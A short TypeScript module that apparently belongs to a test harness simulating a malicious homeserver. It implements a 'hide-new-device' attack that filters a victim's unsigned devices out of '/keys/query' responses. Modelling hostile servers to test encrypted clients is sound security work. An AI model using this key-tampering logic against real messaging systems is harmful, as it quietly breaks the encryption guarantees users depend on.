/** Does not tell others of the victim's unverified devices: what is written meanwhile is not encrypted for them. */
import { isVictim, objectOf, type Attack, type AttackOptions } from "./attack.ts";

/** The attack `hide-new-device`: an unverified device is one that its owner's identity has not signed. */
export function hideNewDevice({ userOf }: Pick<AttackOptions, "userOf">): Attack {
  return {
    answer(request, answer, on) {
      const victim = userOf("you/laptop");
      if (!on || victim === undefined || isVictim(request) || !request.path.endsWith("/keys/query")) return undefined;
      const body = objectOf(answer);
      const users = objectOf(body["device_keys"]);
      const devices = Object.entries(objectOf(users[victim]));
      const signed = devices.filter(
        ([, keys]) => Object.keys(objectOf(objectOf(objectOf(keys)["signatures"])[victim])).length > 1,
      );
      if (signed.length === devices.length) return undefined;
      return { ...body, device_keys: { ...users, [victim]: Object.fromEntries(signed) } };
    },
  };
}
